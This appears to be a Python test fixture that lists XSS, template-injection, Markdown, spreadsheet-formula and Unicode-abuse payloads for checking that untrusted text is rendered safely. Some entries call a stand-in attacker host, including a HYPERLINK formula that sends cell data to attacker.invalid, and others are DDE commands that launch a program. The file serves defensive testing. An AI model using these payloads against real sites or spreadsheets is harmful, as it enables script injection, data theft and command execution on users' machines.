"""Texts that attack: each is tried wherever a stranger's words are shown or written to a file."""

from tests.soak import counts

ZERO_WIDTH = "\u200b\u200c\u200d\u2060\ufeff"

# A script that runs sets window.__hit; nothing of ours ever does.
PAYLOADS = (
    # HTML
    "<script>window.__hit='script'</script>",
    "</script><script>window.__hit='closed script'</script>",
    "<img src=x onerror=\"window.__hit='img'\">",
    "<img src=x onerror=window.__hit=1//",
    '"><img src=x onerror=window.__hit=2>',
    "'><img src=x onerror=window.__hit=3>",
    '" autofocus onfocus=window.__hit=4 x="',
    "' onmouseover=window.__hit=5 x='",
    "<body onload=window.__hit=6>",
    "<iframe srcdoc=\"<script>parent.__hit='iframe'</script>\"></iframe>",
    "<iframe src=javascript:parent.__hit=7></iframe>",
    "<object data=javascript:window.__hit=8></object>",
    "<embed src=javascript:window.__hit=9>",
    "<a href=javascript:window.__hit=10>open</a>",
    "<form action=javascript:window.__hit=11><button>send</button></form>",
    "<input autofocus onfocus=window.__hit=12>",
    "<details open ontoggle=window.__hit=13>",
    "<video><source onerror=window.__hit=14></video>",
    "<style>*{display:none!important}</style>",
    "</style><style>.wb{visibility:hidden}</style>",
    "<link rel=stylesheet href=http://attacker.invalid/x.css>",
    "<meta http-equiv=refresh content='0; url=http://attacker.invalid/'>",
    "<base href=http://attacker.invalid/>",
    "</td></tr></table></div></section><h1>broken out</h1>",
    "<!--",
    "<![CDATA[<script>window.__hit=15</script>]]>",
    "&lt;script&gt;window.__hit=16&lt;/script&gt;",
    "<noscript><p title=\"</noscript><img src=x onerror=window.__hit=17>\">",
    "<template><script>window.__hit=18</script></template>",
    # SVG and MathML
    "<svg onload=window.__hit=19>",
    "<svg><script>window.__hit=20</script></svg>",
    "<svg><animate onbegin=window.__hit=21 attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=javascript:parent.__hit=22>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__hit=23>",
    # Markdown
    "[open](javascript:window.__hit=24)",
    "![picture](x \"onerror=window.__hit=25\")",
    "![](http://attacker.invalid/pixel.png)",
    "$$\\href{javascript:window.__hit=26}{x}$$",
    "# heading\n\n| a | b |\n|---|---|\n| <b>c</b> | d |",
    # Templates
    "{{constructor.constructor('window.__hit=27')()}}",
    "${window.__hit=28}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{0.__class__} {brand} {posts:n} %s %(name)s",
    "#{window.__hit=29}",
    # Cells that a spreadsheet would run
    "=HYPERLINK(\"http://attacker.invalid/?x=\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    ";=1+1",
    "\"=1+1",
    "＝1+1",
    # What turns text round, hides in it, or is endless
    "\u202eevil\u202c \u2066isolated\u2069 \u2067unclosed",
    f"in{ZERO_WIDTH}visible{ZERO_WIDTH}",
    "Z" + "\u0300\u0301\u0302\u0303\u0304" * 40,
    "\x00\x01\x1b[31mred\x1b[0m\x7f",
    "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f👩‍👩‍👧‍👦" * 30,
    "W" * 100_000,
)  # fmt: skip
assert len(PAYLOADS) == 60

# Enough of each kind for every run; all of them for `make soak`.
FEW = tuple(PAYLOADS[n] for n in (0, 2, 6, 9, 18, 23, 29, 34, 39, 44, 45, 54, 55, 56))


def payloads() -> tuple[str, ...]:
    """Return the payloads of this run: all under ``make soak``, else a few of each kind."""
    return counts(FEW, PAYLOADS)
